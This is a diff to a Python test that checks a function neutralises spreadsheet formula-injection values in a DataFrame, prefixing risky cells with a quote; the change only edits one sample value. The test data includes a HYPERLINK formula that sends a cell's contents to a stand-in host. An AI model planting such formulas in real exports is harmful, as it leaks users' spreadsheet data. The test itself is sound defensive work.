@@ -15,7 +15,7 @@ ROOT = Path(__file__).resolve().parents[2]
 def test_formula_cells_are_neutralised_and_the_rest_is_kept(tmp_path):
     frame = pl.DataFrame(
         {
-            "comment": ['=HYPERLINK("http://x.example/?"&A1,"see")', "+1 555", "-2", "@SUM(A1)", "\tx", "\ry", "ok = 1"],
+            "comment": ['=HYPERLINK("http://x.example/?"&A1,"see")', "+1 5", "-2", "@SUM(A1)", "\tx", "\ry", "ok = 1"],
             "score": [-1.5, 2.0, -3.0, 0.0, 1.0, 2.0, 3.0],
             "rater_id": ["a", "b", None, "c", "d", "e", "f"],
         }
@@ -23,7 +23,7 @@ def test_formula_cells_are_neutralised_and_the_rest_is_kept(tmp_path):
     safe = neutralised(frame)
     assert safe["comment"].to_list() == [
         '\'=HYPERLINK("http://x.example/?"&A1,"see")',
-        "'+1 555",
+        "'+1 5",
         "'-2",
         "'@SUM(A1)",
         "'\tx",
